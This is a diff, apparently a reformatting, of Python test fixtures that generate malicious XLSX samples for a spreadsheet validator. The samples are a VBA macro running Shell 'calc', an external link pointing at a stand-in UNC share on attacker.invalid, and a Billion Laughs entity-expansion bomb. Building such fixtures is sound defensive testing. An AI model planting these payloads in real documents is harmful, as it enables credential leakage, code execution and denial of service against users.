@@ -36,7 +36,8 @@ def macro_enabled(good: bytes) -> bytes:
             data = data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
         return data
 
-    return rezip(good, rewrite, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name = \"Module1\"\nShell \"calc\""})
+    macro = b"\xd0\xcf\x11\xe0Attribute VB_Name = \"Module1\"\nShell \"calc\""
+    return rezip(good, rewrite, {"xl/vbaProject.bin": macro})
 
 
 def external_link(good: bytes) -> bytes:
@@ -46,7 +47,8 @@ def external_link(good: bytes) -> bytes:
             b"</externalLink>")
     rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+            b'<Relationship Id="rId1" '
+            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
             b'Target="file:///\\\\attacker.invalid\\share\\book.xlsx" TargetMode="External"/></Relationships>')
 
     def rewrite(name: str, data: bytes) -> bytes:
@@ -65,7 +67,9 @@ def embedded_object(good: bytes) -> bytes:
 
 BILLION_LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-    + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10))
+    + b"".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
+    )
     + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
     b"<si><t>&lol9;</t></si></sst>"
 )
